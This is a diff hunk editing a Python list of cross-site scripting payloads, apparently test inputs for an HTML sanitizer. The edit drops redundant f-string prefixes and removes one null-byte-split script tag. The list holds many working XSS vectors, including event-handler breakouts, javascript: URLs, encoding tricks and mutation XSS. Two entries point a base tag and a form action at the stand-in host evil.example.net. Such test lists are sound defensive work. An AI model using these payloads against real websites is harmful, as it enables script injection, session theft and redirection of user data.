@@ -31,16 +31,15 @@ PAYLOADS = [
     f"\" onfocus=\"{RUN}\" autofocus x=\"", f"<svg/onload={RUN}>",
     f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
     f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>",
-    f"]]><script>{RUN}</script>", f"<iframe srcdoc='<script>top.ran=1"
+    f"]]><script>{RUN}</script>", "<iframe srcdoc='<script>top.ran=1"
     "</script>'>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>",
     f"javascript:{RUN}", f"<a href=javascript:{RUN}>x</a>",
-    f"<base href=//evil.example.net/><script src=x></script>",
+    "<base href=//evil.example.net/><script src=x></script>",
     f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
-    f"<form action=//evil.example.net><button>x", f"{{{{{RUN}}}}}",
+    "<form action=//evil.example.net><button>x", f"{{{{{RUN}}}}}",
     f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#34;><script>{RUN}</script>",
     f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"`-{RUN}-`", f"';{RUN};'",
     f"\\\"><script>{RUN}</script>", f"%22><script>{RUN}</script>",
-    f"<scr\0ipt>{RUN}</scr\0ipt>".replace("\0", ""),
     f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
     f"\u2028{RUN}\u2029", f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
 ]
